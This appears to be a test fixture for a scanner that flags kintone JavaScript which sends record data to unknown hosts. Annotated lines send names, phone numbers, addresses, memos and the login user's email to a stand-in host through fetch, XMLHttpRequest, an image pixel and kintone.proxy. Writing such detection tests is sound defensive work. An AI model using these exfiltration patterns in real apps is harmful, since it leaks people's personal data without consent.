// 知られていない送信先
(() => {
  'use strict';

  kintone.events.on('app.record.create.submit.success', async (event) => {
    const record = event.record; // source: record-to-unknown-host
    await kintone.proxy('https://collect.example.com/api', 'POST', {}, { name: record.氏名.value }); // expect: record-to-unknown-host
    await fetch('https://collect.example.com/api', { // expect: record-to-unknown-host
      method: 'POST',
      body: JSON.stringify(record),
    });
    await fetch(`https://collect.example.com/api?tel=${encodeURIComponent(record.電話番号.value)}`); // expect: record-to-unknown-host

    const image = new Image();
    image.src = 'https://collect.example.com/pixel.gif?d=' + record.住所.value; // expect: record-to-unknown-host

    const request = new XMLHttpRequest();
    request.open('POST', 'https://collect.example.com/api');
    request.send(JSON.stringify({ memo: record.備考.value })); // expect: record-to-unknown-host

    // 個人情報を含まない知らせ、kintone 自身への登録
    await kintone.proxy('https://collect.example.com/api', 'POST', {}, { text: '申請が届きました' });
    await kintone.api('/k/v1/record', 'POST', { app: 12, record: { 氏名: { value: record.氏名.value } } });
    return event;
  });

  const send = (address) => {
    const user = kintone.getLoginUser(); // source: record-to-unknown-host
    return kintone.proxy(address, 'POST', {}, { mail: user.email }); // expect: record-to-unknown-host
  };
  send(window.abikoEndpoint);
})();
